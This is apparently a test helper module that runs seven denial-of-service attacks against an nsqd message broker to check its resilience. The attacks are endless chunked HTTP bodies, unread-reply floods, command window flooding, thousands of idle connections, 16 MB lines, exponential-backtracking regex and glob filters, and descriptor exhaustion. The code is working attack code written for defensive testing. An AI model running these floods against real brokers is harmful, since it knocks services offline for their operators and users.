"""Hostile clients of a broker, as a program: ``python -m tests.hostile.clients NAME TCP HTTP``.

The program attacks until its standard input is closed; then it prints how many connections it made and how many bytes
it sent. It uses the standard library alone, so that it starts quickly.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from struct import pack

Address = tuple[str, int]

_COUNTERS = {"connections": 0, "sent": 0}
_PAUSE = 0.01
"""Seconds between two connections of an attack that is refused."""


def connect(address: Address) -> socket.socket:
    """Connect, and count it."""
    sock = socket.create_connection(address, timeout=20)
    _COUNTERS["connections"] += 1
    return sock


def send(sock: socket.socket, data: bytes) -> None:
    """Send bytes, and count them."""
    sock.sendall(data)
    _COUNTERS["sent"] += len(data)


def command(line: str, body: bytes | None = None) -> bytes:
    """Return a command of nsqd's protocol."""
    return line.encode() + b"\n" + (b"" if body is None else pack(">I", len(body)) + body)


def identify(tcp: Address, **members: object) -> socket.socket:
    """Connect to nsqd and send IDENTIFY."""
    sock = connect(tcp)
    send(sock, b"  V2" + command("IDENTIFY", json.dumps(members).encode()))
    sock.recv(65536)
    return sock


def discard(sock: socket.socket) -> None:
    """Read and ignore all replies, in another thread."""

    def read() -> None:
        with suppress(OSError):
            while sock.recv(1 << 20):
                pass

    threading.Thread(target=read, daemon=True).start()


def chunked_bodies(tcp: Address, http: Address) -> None:
    """POST chunked bodies without end to /pub, /mpub and /put of nsqd's HTTP API."""
    for path in ("/pub?topic=target", "/mpub?topic=target", "/config/nsqlookupd_tcp_addresses"):
        with connect(http) as sock:
            head = f"POST {path} HTTP/1.1\r\nHost: {http[0]}:{http[1]}\r\nTransfer-Encoding: chunked\r\n\r\n"
            send(sock, head.encode())
            chunk = b"%x\r\n" % (1 << 20) + bytes(1 << 20) + b"\r\n"
            with suppress(OSError):
                for _ in range(400):
                    send(sock, chunk)


def unread_replies(tcp: Address, http: Address) -> None:
    """Publish without reading a reply."""
    with identify(tcp, client_id="unread") as sock:
        batch = command("PUB target", b"x") * 10_000
        while True:
            send(sock, batch)


def full_window(tcp: Address, http: Address) -> None:
    """Keep the read window of one connection full of commands."""
    with identify(tcp, client_id="window") as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
        discard(sock)
        commands = b"NOP\n" * 100_000
        while True:
            send(sock, commands)


def silent_connections(tcp: Address, http: Address) -> None:
    """Hold 2,000 connections that send nothing."""
    held = []
    for _ in range(1000):
        held += [connect(tcp), connect(http)]
    time.sleep(3600)


def long_lines(tcp: Address, http: Address) -> None:
    """Send a line of 16 MB to nsqd's TCP and HTTP sides."""
    for address, start in ((tcp, b"  V2"), (http, b"GET /")):
        with connect(address) as sock, suppress(OSError):
            send(sock, start)
            for _ in range(16):
                send(sock, b"x" * (1 << 20))


def catastrophic_filters(tcp: Address, http: Address) -> None:
    """Filter by expressions that take a backtracking engine exponential time."""
    # type 2 is a regular expression, type 3 a glob
    wanted = [
        {"type": 2, "inverse": False, "filter_ext_key": "k", "filter_data": "(a+)+$"},
        {"type": 2, "inverse": False, "filter_ext_key": "k", "filter_data": "(a|aa)+$"},
        {"type": 3, "inverse": False, "filter_ext_key": "k", "filter_data": "*a" * 30 + "b"},
    ]
    for number, one in enumerate(wanted):
        consumer = identify(tcp, client_id=f"filter{number}", extend_support=True, ext_filter=one)
        send(consumer, command(f"SUB_ADVANCED target filter{number} 0") + command("RDY 100"))
        discard(consumer)
    with identify(tcp, client_id="publisher") as sock:
        discard(sock)
        header = json.dumps({"k": "a" * 2000 + "!"}).encode()
        publish = command("PUB_EXT target 0", pack(">H", len(header)) + header + b"x")
        while True:
            send(sock, publish * 10)
            time.sleep(_PAUSE)


def out_of_descriptors(tcp: Address, http: Address) -> None:
    """Open connections until the broker has no descriptor left, and continue."""
    held = []
    while True:
        with suppress(OSError):
            held.append(socket.create_connection(tcp, timeout=0.2))
            held.append(socket.create_connection(http, timeout=0.2))
            _COUNTERS["connections"] += 2
        del held[:-1500]


ATTACKS: dict[str, Callable[[Address, Address], None]] = {
    "chunked-bodies": chunked_bodies,
    "unread-replies": unread_replies,
    "full-window": full_window,
    "silent-connections": silent_connections,
    "long-lines": long_lines,
    "catastrophic-filters": catastrophic_filters,
    "out-of-descriptors": out_of_descriptors,
}


def _address(text: str) -> Address:
    host, _, port = text.rpartition(":")
    return host, int(port)


def main() -> None:
    """Attack until standard input is closed."""
    attack = ATTACKS[sys.argv[1]]
    tcp, http = map(_address, sys.argv[2:4])

    def run() -> None:
        while True:
            with suppress(OSError):
                attack(tcp, http)
            time.sleep(_PAUSE)

    threading.Thread(target=run, daemon=True).start()
    sys.stdin.read()
    sys.stdout.write(json.dumps(_COUNTERS) + "\n")
    sys.stdout.flush()
    os._exit(0)


if __name__ == "__main__":
    main()
